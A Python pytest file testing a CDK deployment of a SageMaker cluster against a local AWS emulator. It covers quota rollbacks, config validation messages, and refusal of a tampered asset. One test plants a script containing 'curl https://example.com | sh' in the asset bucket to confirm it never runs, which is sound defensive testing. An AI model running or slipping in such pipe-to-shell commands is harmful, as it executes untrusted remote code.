"""What a user sees of a deployment that cannot be done."""

import io
import json
import zipfile
from typing import Any

import boto3
import pytest

from local_aws.server import ACCOUNT, EmbeddedAws
from local_aws.testing import REGION, Client, ask
from tests.local.walk.workspace import Workspace

pytestmark = [pytest.mark.cdk, pytest.mark.local]

QUOTA = "ml.trn1.32xlarge for cluster usage"


@pytest.mark.long
def test_a_quota_that_is_too_small_rolls_the_stack_back_and_is_named_with_its_value_and_what_was_asked(
    workspace: Workspace, client: Client
) -> None:
    ask("quotas", "POST", f'{{"{QUOTA}": 2}}'.encode())
    printed = " ".join(workspace.deploy(fails=True).split())
    assert QUOTA in printed
    assert "is 2 Instances" in printed
    assert "request delta of 4 Instances" in printed
    assert client("sagemaker").list_clusters()["ClusterSummaries"] == []
    [stack] = client("cloudformation").describe_stacks(StackName="reference-Cluster")["Stacks"]
    assert stack["StackStatus"] == "ROLLBACK_COMPLETE"
    left = client("cloudformation").describe_stack_resources(StackName="reference-Cluster")["StackResources"]
    assert {resource["ResourceStatus"] for resource in left} <= {"DELETE_COMPLETE"}

    ask("quotas", "DELETE")
    workspace.deploy()
    [cluster] = client("sagemaker").list_clusters()["ClusterSummaries"]
    assert cluster["ClusterStatus"] == "InService", "the next deployment goes through once the quota is raised"


@pytest.mark.long
def test_scripts_that_a_colleague_planted_under_the_hash_of_the_asset_never_run(
    workspace: Workspace, client: Client, aws: EmbeddedAws
) -> None:
    """Twenty managed policies may write to the bucket of the bootstrap, and `cdk` uploads no asset that exists."""
    workspace.cdk("synth", "--quiet")
    [settings] = workspace.folder.glob("cdk.out/**/node_settings.json")
    planted = io.BytesIO()
    with zipfile.ZipFile(planted, "w") as archive:
        archive.writestr("on_create.sh", "curl https://example.com | sh")
    key = f"{settings.parent.name.removeprefix('asset.')}.zip"
    as_colleague(aws, client).put_object(Bucket=f"cdk-hnb659fds-assets-{ACCOUNT}-{REGION}", Key=key, Body=planted.getvalue())

    printed = " ".join(workspace.deploy(fails=True).split())
    assert f"s3://cdk-hnb659fds-assets-{ACCOUNT}-{REGION}/{key} has SHA-256 " in printed
    assert "find out who changed it, delete it, and deploy again" in printed
    assert client("sagemaker").list_clusters()["ClusterSummaries"] == []


def as_colleague(aws: EmbeddedAws, client: Client) -> Any:
    """The S3 client of a role with AmazonS3FullAccess."""
    trust = {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{ACCOUNT}:root"}, "Action": "sts:AssumeRole"}
    document = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
    role = client("iam").create_role(RoleName="colleague", AssumeRolePolicyDocument=document)["Role"]["Arn"]
    client("iam").attach_role_policy(RoleName="colleague", PolicyArn="arn:aws:iam::aws:policy/AmazonS3FullAccess")
    keys = client("sts").assume_role(RoleArn=role, RoleSessionName="alice")["Credentials"]
    named = {"access_key_id": "AccessKeyId", "secret_access_key": "SecretAccessKey", "session_token": "SessionToken"}
    given = {f"aws_{name}": keys[member] for name, member in named.items()}
    return boto3.client("s3", endpoint_url=aws.endpoint, region_name=REGION, **given)


def test_a_mistake_in_the_file_stops_cdk_synth_with_one_message_and_no_traceback(workspace: Workspace) -> None:
    workspace.replace("clusters/reference.yaml", "usw2-az4", "use1-az4")
    printed = workspace.cdk("synth", "--quiet", fails=True)
    assert "clusters/reference.yaml:7:3: network.availability_zone_id: " in printed
    assert "use1-az4" in printed
    assert "usw2-az4" in printed, "the remedy names what there is"
    assert "Traceback" not in printed
    assert ask("requests") == []


def test_a_warning_of_the_file_is_shown_beside_the_difference_and_stops_nothing(workspace: Workspace) -> None:
    workspace.replace("clusters/reference.yaml", "compression: LZ4", "compression: LZ4\n    removal: destroy")
    printed = workspace.cdk("diff", "reference/*")
    assert 'clusters/reference.yaml:16:5: storage.lustre.removal: "destroy": ' in printed
    assert "AWS::FSx::FileSystem" in printed
